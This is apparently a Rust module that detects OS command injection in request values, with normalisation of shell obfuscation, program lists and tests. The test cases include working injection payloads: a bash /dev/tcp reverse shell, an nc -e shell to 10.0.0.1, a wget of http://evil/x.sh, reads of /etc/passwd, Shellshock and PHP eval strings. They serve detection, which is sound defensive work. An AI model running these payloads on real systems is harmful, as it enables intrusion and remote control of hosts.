//! OS command injection: a shell separator (`;`, `|`, `||`, `&&`, a
//! newline, a backtick, `$(`) followed by a command, a shell-only
//! construct (`${IFS}`, `/dev/tcp/`, `2>&1`, SSI `<!--#exec`), a
//! command-execution call (`system(`, `passthru(`...), or a command with
//! a path or shell arguments at the start of the value (`/bin/ls -al`,
//! `ping -n 3 127.0.0.1`). The value is first rid of the quoting and
//! `$IFS` tricks shells ignore (`w'h'o'am'i`, `c\at`, `cat${IFS}/etc/x`,
//! `w^h^o^a^m^i`).
//!
//! Ordinary words after `&` (`cats & dogs`, `Name & ID`, `time & date`)
//! do not fire: a lone `&` is an English conjunction as often as a shell
//! operator, so only unambiguous programs or shell-style arguments count
//! after it.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

/// Rewrites the normalised value into `out` the way a shell reads it.
fn unshell(s: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let n = s.len();
    let mut i = 0;
    while i < n {
        let c = s[i];
        let word = |j: usize| j < n && (s[j].is_ascii_alphanumeric() || s[j] == b'/');
        match c {
            // `+` in a value that decoding left alone was a space to the
            // lists' authors (`|+dir+c:\`); NUL ends a word as a space does.
            b'+' | 0 => out.push(b' '),
            // A literal `\n` as the lists write a newline.
            b'\\' if s.get(i + 1) == Some(&b'n') => {
                out.push(b'\n');
                i += 2;
                continue;
            }
            b'$' => {
                let rest = &s[i..];
                if rest.starts_with(b"${ifs}") {
                    out.push(b' ');
                    i += 6;
                    continue;
                }
                if rest.starts_with(b"$ifs") {
                    out.push(b' ');
                    i += 4;
                    // `$IFS$9`
                    if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
                        i += 2;
                    }
                    continue;
                }
                // `who$@ami`, `c$!at`, `c$()at`, `$9`
                if matches!(s.get(i + 1), Some(b'@' | b'*' | b'!'))
                    || s.get(i + 1).is_some_and(u8::is_ascii_digit)
                {
                    i += 2;
                    continue;
                }
                if rest.starts_with(b"$()") {
                    i += 3;
                    continue;
                }
                // `$u/bin$u/cat$u`: a variable nobody set, glued to a word
                // or a path, expands to nothing.
                if s.get(i + 1).is_some_and(u8::is_ascii_lowercase) {
                    let mut j = i + 1;
                    while j < n && (s[j].is_ascii_alphanumeric() || s[j] == b'_') {
                        j += 1;
                    }
                    if i > 0 && word(i - 1) || word(j) {
                        i = j;
                        continue;
                    }
                }
                out.push(c);
            }
            // `pi``ng`: an empty command substitution inside a word.
            b'`' if s.get(i + 1) == Some(&b'`') && i > 0 && word(i - 1) && word(i + 2) => {
                i += 2;
                continue;
            }
            // Quotes and escapes inside a word: `w'h'o'am'i`, `c\at`, `w^h^o`.
            b'\'' | b'"' | b'\\' | b'^' if i > 0 && word(i - 1) && word(i + 1) => {}
            b'\'' | b'"' if i > 0 && word(i - 1) && i + 1 < n && s[i + 1] == c && word(i + 2) => {
                // `c''at`
                i += 2;
                continue;
            }
            // Brace expansion: `{cat,/etc/passwd}`; not the commas of a
            // JSON object (`{"d":";","id":1}`), whose `:` bash has not.
            b',' if out
                .iter()
                .rposition(|c| *c == b'{')
                .is_some_and(|open| !out[open..].contains(&b':')) =>
            {
                out.push(b' ')
            }
            _ => out.push(c),
        }
        i += 1;
    }
}

/// Programs that do nothing but what an attacker wants (recon, download,
/// shells, interpreters): a command position is enough.
fn strong(cmd: &[u8]) -> bool {
    matches!(
        cmd,
        b"whoami"
            | b"uname"
            | b"ifconfig"
            | b"ipconfig"
            | b"netstat"
            | b"nslookup"
            | b"wget"
            | b"curl"
            | b"ncat"
            | b"netcat"
            | b"bash"
            | b"zsh"
            | b"ksh"
            | b"tcsh"
            | b"python"
            | b"python2"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"powershell"
            | b"pwsh"
            | b"certutil"
            | b"bitsadmin"
            | b"wmic"
            | b"systeminfo"
            | b"sysinfo"
            | b"tasklist"
            | b"taskkill"
            | b"busybox"
            | b"telnet"
            | b"tftp"
            | b"socat"
            | b"rundll32"
            | b"regsvr32"
            | b"mshta"
            | b"cscript"
            | b"wscript"
            | b"net1"
            | b"nc"
            | b"sh"
            | b"cmd"
            | b"netsh"
    )
}

/// Programs, including common ones whose names are also words; they
/// count after an unambiguous separator (`;`, `|`, backtick, `$(`...).
fn command(cmd: &[u8]) -> bool {
    strong(cmd)
        || matches!(
            cmd,
            b"cat"
                | b"id"
                | b"ls"
                | b"dir"
                | b"pwd"
                | b"ping"
                | b"ping6"
                | b"sleep"
                | b"dig"
                | b"echo"
                | b"printf"
                | b"env"
                | b"export"
                | b"ps"
                | b"kill"
                | b"killall"
                | b"pkill"
                | b"chmod"
                | b"chown"
                | b"rm"
                | b"mv"
                | b"cp"
                | b"touch"
                | b"mkdir"
                | b"rmdir"
                | b"ln"
                | b"awk"
                | b"sed"
                | b"grep"
                | b"egrep"
                | b"find"
                | b"xargs"
                | b"base64"
                | b"head"
                | b"tail"
                | b"nl"
                | b"tac"
                | b"od"
                | b"xxd"
                | b"hexdump"
                | b"strings"
                | b"wc"
                | b"hostname"
                | b"reboot"
                | b"shutdown"
                | b"poweroff"
                | b"halt"
                | b"crontab"
                | b"nohup"
                | b"eval"
                | b"timeout"
                | b"true"
                | b"false"
                | b"expr"
                | b"passwd"
                | b"useradd"
                | b"adduser"
                | b"sudo"
                | b"su"
                | b"net"
                | b"netsh"
                | b"type"
                | b"del"
                | b"copy"
                | b"reg"
                | b"findstr"
                | b"nmap"
                | b"getent"
                | b"who"
                | b"uptime"
                | b"ver"
                | b"vol"
                | b"arp"
                | b"route"
                | b"traceroute"
                | b"tracert"
                | b"mail"
                | b"sendmail"
                | b"gcc"
                | b"stat"
                | b"du"
                | b"df"
                | b"mount"
                | b"dmesg"
                | b"lsof"
                | b"groups"
                | b"finger"
                | b"sysctl"
                | b"iptables"
                | b"systemctl"
                | b"openssl"
                | b"dd"
                | b"mkfifo"
                | b"mknod"
                | b"tee"
                | b"cd"
                | b"php"
                | b"node"
                | b"lua"
                | b"ssh"
                | b"scp"
                | b"ftp"
                | b"dash"
                | b"csh"
                | b"tar"
                | b"zip"
                | b"unzip"
                | b"gzip"
                | b"chattr"
                | b"lsattr"
                // GTFOBins: programs that run a shell or read files for
                // whoever can start them.
                | b"lastlog"
                | b"lastb"
                | b"last"
                | b"gdb"
                | b"vim"
                | b"vi"
                | b"c89"
                | b"c99"
                | b"tclsh"
                | b"strace"
                | b"ltrace"
                | b"rsync"
                | b"sftp"
                | b"tmux"
                | b"screen"
                | b"xterm"
                | b"jjs"
                | b"jrunscript"
                | b"irb"
                | b"rlwrap"
                | b"setsid"
                | b"stdbuf"
                | b"unshare"
                | b"chroot"
                | b"capsh"
                | b"taskset"
                | b"ionice"
                | b"ash"
                | b"rbash"
                | b"mksh"
                | b"expect"
                | b"make"
                | b"mysql"
                | b"psql"
                | b"sqlite3"
                | b"docker"
                | b"kubectl"
                // PowerShell's aliases: `;iex (iwr http://x/p.ps1)`.
                | b"iex"
                | b"iwr"
                | b"irm"
        )
}

fn word_char(c: u8) -> bool {
    BYTE_CLASSES[usize::from(c)] & WORD != 0
}

/// What sits at a command position `i`: the program's base name (without
/// `.exe`), whether it carried a directory, and where it ends.
fn command_at(s: &[u8], mut i: usize) -> Option<(&[u8], bool, usize)> {
    while i < s.len()
        && (s[i].is_ascii_whitespace() || matches!(s[i], b'(' | b'{' | b'!' | b'\'' | b'"'))
    {
        i += 1;
    }
    let start = i;
    while i < s.len() && word_char(s[i]) {
        i += 1;
    }
    let mut w = &s[start..i];
    if w.is_empty() {
        return None;
    }
    let mut dir = false;
    if let Some(p) = w.iter().rposition(|c| *c == b'/' || *c == b'\\') {
        dir = p > 0 || w.len() > 1;
        w = &w[p + 1..];
    }
    for ext in [&b".exe"[..], b".com", b".bat"] {
        if let Some(stem) = w.strip_suffix(ext) {
            w = stem;
            dir = true;
        }
    }
    Some((w, dir, i))
}

/// A program named by its path at a command position that ends there:
/// where programs live (`/usr/bin/id`), or a Windows executable anywhere
/// (`c:/tools/nc.exe`); not a URL path ending in a program's name.
fn program_path(s: &[u8], cmd: &[u8], dir: bool, end: usize) -> bool {
    dir && command(cmd)
        && ends_command(s, end)
        && (binary_dir(s, end - cmd.len()) || executable(s, end))
}

/// Whether the directory before the program whose name starts at
/// `name_at` is where programs live (`/bin/`, `/usr/sbin/`, `system32\`,
/// `/tmp/`): a URL path ending in a program's name (`/api/ping`,
/// `/users/id`, `/touch`) is an endpoint. A name with an extension stripped
/// (`cmd.exe`) is looked at before it.
fn binary_dir(s: &[u8], name_at: usize) -> bool {
    let dir = &s[..name_at.min(s.len())];
    let Some(p) = dir.iter().rposition(|c| *c == b'/' || *c == b'\\') else {
        return false;
    };
    // `/bin//id`, `/bin/./id`; `unshell` may have dropped a backslash
    // between two names (`windows\system32` reads `windowssystem32`).
    let dir = &dir[..p];
    let dir = &dir[..dir.len()
        - dir
            .iter()
            .rev()
            .take_while(|c| matches!(c, b'/' | b'\\' | b'.'))
            .count()];
    const HOMES: [&[u8]; 6] = [b"bin", b"system32", b"syswow64", b"windows", b"tmp", b"shm"];
    HOMES.iter().any(|h| dir.ends_with(h))
}

/// The program ending at `end` is named with a Windows executable's
/// extension (`c:/tools/nc.exe`): a file that runs, wherever it is.
fn executable(s: &[u8], end: usize) -> bool {
    [&b".exe"[..], b".com", b".bat"]
        .iter()
        .any(|e| s[..end].ends_with(e))
}

/// Shell-style arguments after a command: a flag, a path, a drive, a
/// redirection, an address or a number (`sleep 5`, `ping 127.0.0.1`).
fn shell_args(s: &[u8], end: usize) -> bool {
    let mut i = end;
    if !s.get(i).is_some_and(u8::is_ascii_whitespace) {
        return false;
    }
    while i < s.len() && s[i].is_ascii_whitespace() {
        i += 1;
    }
    let rest = &s[i..];
    match rest.first() {
        Some(b'-') => rest
            .get(1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-'),
        // `cat | dog`, `head | shoulders`: words of a search, unless a
        // program takes the pipe (`cat /x | nc`, `id | mail`) or nothing
        // does (`dir c: |`, cut where the payload went on).
        Some(b'|') => {
            let after = i + 1 + usize::from(rest.get(1) == Some(&b'|'));
            s[after..].iter().all(u8::is_ascii_whitespace)
                || command_at(s, after).is_some_and(|(cmd, dir, _)| dir || command(cmd))
        }
        Some(b'/' | b'\\' | b'>' | b'<' | b'$' | b'~' | b'`' | b';' | b'%') => true,
        Some(b'0'..=b'9') => true,
        Some(c) if c.is_ascii_alphabetic() => {
            rest.get(1) == Some(&b':') && matches!(rest.get(2), Some(b'\\' | b'/'))
                || rest.starts_with(b"http://")
                || rest.starts_with(b"https://")
                || rest.starts_with(b"ftp://")
        }
        _ => false,
    }
}

/// The command position after a separator ends the value or is followed
/// by what a shell would accept.
fn ends_command(s: &[u8], end: usize) -> bool {
    match s.get(end) {
        None => true,
        Some(c) => {
            c.is_ascii_whitespace()
                || matches!(
                    c,
                    b';' | b'|'
                        | b'&'
                        | b'`'
                        | b')'
                        | b'$'
                        | b'#'
                        | b'\''
                        | b'"'
                        | b'}'
                        | b'>'
                        | b'<'
                )
        }
    }
}

/// [`BYTE_CLASSES`]: a byte `unshell` rewrites.
const UNSHELL: u8 = 1;
/// [`BYTE_CLASSES`]: shell punctuation.
const PUNCT: u8 = 2;

/// [`BYTE_CLASSES`]: a byte of a program's name or path.
const WORD: u8 = 4;

/// Per byte: [`UNSHELL`], [`PUNCT`], [`WORD`]; one pass over a value
/// answers the first two.
static BYTE_CLASSES: [u8; 256] = byte_classes();

const fn byte_classes() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        if matches!(
            c,
            b'$' | b'\'' | b'"' | b'\\' | b'^' | b',' | b'+' | b'`' | 0
        ) {
            table[i] |= UNSHELL;
        }
        if matches!(
            c,
            b';' | b'|'
                | b'&'
                | b'`'
                | b'$'
                | b'('
                | b'{'
                | b'<'
                | b'>'
                | b'\n'
                | b'\r'
                | b' '
                | b'\''
                | b'"'
                | b'-'
                | b'\t'
        ) {
            table[i] |= PUNCT;
        }
        if c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'_' | b'.' | b'-' | b'/' | b'\\' | b':' | b'~' | b'?' | b'*'
            )
        {
            table[i] |= WORD;
        }
        i += 1;
    }
    table
}

pub fn detect(raw: &[u8], buf: &mut Vec<u8>) -> bool {
    // Most values hold nothing `unshell` rewrites: read them in place.
    let mut classes = super::classes_of(&BYTE_CLASSES, raw);
    let s: &[u8] = if classes & UNSHELL != 0 {
        unshell(raw, buf);
        classes = super::classes_of(&BYTE_CLASSES, buf);
        buf
    } else {
        raw
    };
    // Without any shell punctuation only a program path at the start can
    // be a command (`/usr/bin/id`): the common case of a URL path.
    let punct = classes & PUNCT != 0;
    if !punct {
        return command_at(s, 0).is_some_and(|(cmd, dir, end)| program_path(s, cmd, dir, end));
    }
    if anywhere(s) {
        return true;
    }
    // The whole value is a reconnaissance program and nothing else:
    // blind probes send `whoami` or `ifconfig` where a value should be.
    let trimmed = s
        .iter()
        .position(|c| !(c.is_ascii_whitespace() || matches!(c, b'\'' | b'"')))
        .map_or(&s[..0], |a| {
            let b = s
                .iter()
                .rposition(|c| !(c.is_ascii_whitespace() || matches!(c, b'\'' | b'"')))
                .unwrap_or(a);
            &s[a..=b]
        });
    if recon(trimmed) {
        return true;
    }
    // Start of the value: a program with a directory or shell arguments,
    // or a recon program right after a quote that closed the argument the
    // value was pasted into (`" whoami`, `'uname'`).
    if let Some((cmd, dir, end)) = command_at(s, 0) {
        let quoted = matches!(s.first(), Some(b'\'' | b'"'));
        // `id;`, `uname|`: a program, then straight away a separator.
        let chained = matches!(s.get(end), Some(b';' | b'|' | b'`')) || s[end..].starts_with(b"&&");
        if program_path(s, cmd, dir, end)
            || (command(cmd) && !english(cmd) && cmd.len() > 1 && chained)
            || (strong(cmd) && (shell_args(s, end) || quoted && ends_command(s, end)))
            || (command(cmd) && cmd.len() > 1 && switch_later(s, end))
        {
            return true;
        }
    }
    // After each separator.
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        let (sep_len, strong_sep) = match c {
            b';' | b'\n' | b'\r' | b'`' => (1, true),
            b'|' => (if s.get(i + 1) == Some(&b'|') { 2 } else { 1 }, true),
            b'&' => {
                if s.get(i + 1) == Some(&b'&') {
                    (2, true)
                } else {
                    (1, false)
                }
            }
            b'$' | b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (2, true),
            _ => {
                i += 1;
                continue;
            }
        };
        let at = i + sep_len;
        i = at;
        let Some((cmd, dir, end)) = command_at(s, at) else {
            continue;
        };
        if !ends_command(s, end) {
            continue;
        }
        let tight = !s.get(at).is_some_and(u8::is_ascii_whitespace);
        let fires = if strong_sep {
            strong(cmd)
                || dir && (command(cmd) || glob(cmd))
                || command(cmd) && !english(cmd)
                // `Dogs | Cat toys` is a breadcrumb; `|cat /etc/passwd`,
                // `;cat` and `; sleep 5` are not.
                || english(cmd) && (tight || switch_later(s, end) || counted(cmd, s, end))
        } else {
            unmistakable(cmd)
                || strong(cmd) && (end == s.len() || shell_args(s, end) || dir)
                || command(cmd) && (switch_later(s, end) || dir || counted(cmd, s, end))
        };
        if fires {
            return true;
        }
    }
    false
}

/// Strong programs whose names are no word of any language, so that
/// even after `&` (`R&D & netsh firewall ...`) they are commands.
fn unmistakable(cmd: &[u8]) -> bool {
    strong(cmd)
        && !matches!(
            cmd,
            b"curl"
                | b"bash"
                | b"python"
                | b"python2"
                | b"python3"
                | b"perl"
                | b"ruby"
                | b"telnet"
                | b"sh"
                | b"nc"
                | b"cmd"
                | b"tftp"
                | b"ksh"
                | b"zsh"
                | b"tcsh"
                | b"ncat"
        )
}

/// Programs that only reconnaissance sends as a whole value.
/// Also `which wget` (what can be downloaded with) and `sleep 5` (a
/// timing probe): a whole value no form field holds.
pub fn recon(value: &[u8]) -> bool {
    if matches!(
        value,
        b"whoami" | b"ifconfig" | b"ipconfig" | b"systeminfo" | b"netstat" | b"uname -a"
    ) {
        return true;
    }
    if let Some(p) = value.strip_prefix(b"which ") {
        return command(p) || strong(p);
    }
    if let Some(n) = value.strip_prefix(b"sleep ") {
        return !n.is_empty() && n.len() <= 3 && n.iter().all(u8::is_ascii_digit);
    }
    false
}

/// Program names that are also everyday words, which `|` and `;` in
/// breadcrumbs and lists put at a command position (`Dogs | Cat toys`,
/// `Sale | Last chance`).
fn english(cmd: &[u8]) -> bool {
    matches!(
        cmd,
        b"cat"
            | b"find"
            | b"head"
            | b"tail"
            | b"type"
            | b"copy"
            | b"touch"
            | b"kill"
            | b"who"
            | b"echo"
            | b"ping"
            | b"sleep"
            | b"mail"
            | b"route"
            | b"groups"
            | b"net"
            | b"ver"
            | b"vol"
            | b"true"
            | b"false"
            | b"stat"
            | b"tee"
            | b"cd"
            | b"reboot"
            | b"shutdown"
            | b"halt"
            | b"timeout"
            | b"finger"
            | b"strings"
            | b"export"
            | b"last"
            | b"screen"
            | b"expect"
            | b"make"
            | b"vi"
            | b"ash"
    )
}

/// `sleep 5`, `ping -n 3`, `timeout 10`: programs whose argument is a
/// count.
fn counted(cmd: &[u8], s: &[u8], end: usize) -> bool {
    if cmd == b"net" {
        // `net user`, `net view`: Windows account and share recon.
        let rest = &s[end..];
        let word = rest.iter().skip_while(|c| c.is_ascii_whitespace());
        let w: Vec<u8> = word
            .take_while(|c| c.is_ascii_alphabetic())
            .copied()
            .take(12)
            .collect();
        return matches!(
            w.as_slice(),
            b"user"
                | b"users"
                | b"view"
                | b"use"
                | b"localgroup"
                | b"group"
                | b"share"
                | b"session"
                | b"accounts"
        );
    }
    matches!(cmd, b"sleep" | b"ping" | b"timeout" | b"usleep")
        && s.get(end).is_some_and(u8::is_ascii_whitespace)
        && s[end..]
            .iter()
            .find(|c| !c.is_ascii_whitespace())
            .is_some_and(|c| c.is_ascii_digit() || *c == b'-')
}

/// A switch or path among the next few arguments: `-al`, `/add`, `c:\`,
/// `/etc/passwd`, an address; what prose after a program name lacks.
fn switch_later(s: &[u8], end: usize) -> bool {
    let mut i = end;
    for _ in 0..6 {
        if !s.get(i).is_some_and(u8::is_ascii_whitespace) {
            return false;
        }
        while i < s.len() && s[i].is_ascii_whitespace() {
            i += 1;
        }
        if has_shell_path_arg(s, i.saturating_sub(1)) {
            return true;
        }
        while i < s.len() && !s[i].is_ascii_whitespace() {
            i += 1;
        }
    }
    false
}

/// `/???/??t`: a glob standing for a program.
fn glob(cmd: &[u8]) -> bool {
    !cmd.is_empty()
        && cmd
            .iter()
            .all(|c| matches!(c, b'?' | b'*') || c.is_ascii_alphabetic())
        && cmd.contains(&b'?')
}

/// The argument after `end` is a path, drive, flag or address rather than
/// a word: `ping -n 3`, `cat /etc/passwd`, `dir c:\`.
fn has_shell_path_arg(s: &[u8], end: usize) -> bool {
    if !shell_args(s, end) {
        return false;
    }
    let mut i = end;
    while i < s.len() && s[i].is_ascii_whitespace() {
        i += 1;
    }
    // A number is an argument only as an address (`sleep 8 hours` is
    // English, `ping 127.0.0.1` is not).
    if s[i].is_ascii_digit() {
        let tok = &s[i..];
        let len = tok
            .iter()
            .take_while(|c| c.is_ascii_digit() || **c == b'.')
            .count();
        return tok[..len].iter().filter(|c| **c == b'.').count() == 3;
    }
    true
}

/// Constructs only a shell or a code-execution call has.
fn anywhere(s: &[u8]) -> bool {
    const NEEDLES: [&str; 30] = [
        "${@",
        "phpversion()",
        "eval(",
        "exec(",
        "phpinfo()",
        "assert(",
        "${system",
        "{${",
        "/dev/tcp/",
        "/dev/udp/",
        "2>&1",
        ">/dev/null",
        "> /dev/null",
        "<!--#exec",
        "() {",
        "(){",
        "system(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "getruntime().exec(",
        "child_process",
        "os.system(",
        "os.popen(",
        "subprocess.",
        "/bin/sh -",
        "cmd /c",
        "cmd.exe /c",
    ];
    // One pass over the value for all of them.
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    let Some(ac) = AC.get_or_init(|| AhoCorasick::new(NEEDLES).ok()).as_ref() else {
        return false;
    };
    ac.find_overlapping_iter(s)
        .any(|m| !NEEDLES[m.pattern().as_usize()].ends_with('(') || runs_something(&s[m.end()..]))
}

/// Whether a call's argument list (after its `(`) hands it something to
/// run. `system()`, `assert()` and `exec(3)` are how prose and manual
/// pages name these functions ("never really liked C's assert()
/// feature"); an injected call runs a string, a variable or another call.
fn runs_something(args: &[u8]) -> bool {
    let first = args.iter().find(|c| !c.is_ascii_whitespace());
    !matches!(first, None | Some(b')' | b'0'..=b'9'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmdi(s: &str) -> bool {
        detect(s.to_ascii_lowercase().as_bytes(), &mut Vec::new())
    }

    #[test]
    fn injections() {
        for p in [
            ";id",
            "|id",
            "|| whoami",
            "&& cat /etc/passwd",
            "`id`",
            "$(whoami)",
            "127.0.0.1; wget http://evil/x.sh",
            "a;/usr/bin/id|",
            "/bin/ls -al",
            "ping.exe -n 31 127.0.0.1",
            "& ping -n 30 127.0.0.1 &",
            "cat${IFS}/etc/passwd",
            ";w'h'o'am'i",
            ";c\\at /etc/passwd",
            "\nid",
            "| dir c:\\",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "<!--#exec cmd=\"/usr/bin/id;-->",
            "() { :;}; /bin/bash -c id",
            ";system('cat /etc/passwd')",
            "'uname'",
            ";/???/??t /???/p??s??",
            "{cat,/etc/passwd}",
            "| /bin/sleep 31 ;",
            "1|nc -e /bin/sh 10.0.0.1 4444",
            "assert($_post[x])",
            "eval(base64_decode('zwnobya=='))",
            "system( $_get['c'] )",
            "passthru(`id`)",
        ] {
            assert!(cmdi(p), "missed {p:?}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "cats & dogs",
            "Name & ID",
            "time & date",
            "Tom & Jerry",
            "salt & pepper",
            "semi;colon",
            "pipe | separated",
            "wget vs curl",
            "python list comprehension",
            "bash birthday party",
            "uname",
            "how to cat a file in linux",
            "R&D budget",
            "a|b",
            "yes; time to go",
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            "Mozilla/5.0 (compatible; curl/7.1)",
            "/static/js/app.js",
            "https://example.com/a?b=c&id=5",
            "{\"id\":1,\"tags\":[\"a\",\"b\"]}",
            "sleep apnea",
            "ping pong table",
            // Searches: a word that names a program, then `|`, then words.
            "cat toys | dog toys",
            "cat | dog",
            "echo dot | alexa",
            "head | shoulders",
            "nc state | hoodie",
            "find | replace",
            // Prose and manual pages naming the calls (seen in a blog's
            // log: a spam bot posting a comment into the URL).
            "i never really liked c's assert() feature. if an assertion is violated",
            "what does system() return",
            "/blog/python-eval()-considered-harmful",
            "/man/3/exec(3)",
        ] {
            assert!(!cmdi(b), "false positive {b:?}");
        }
    }
}
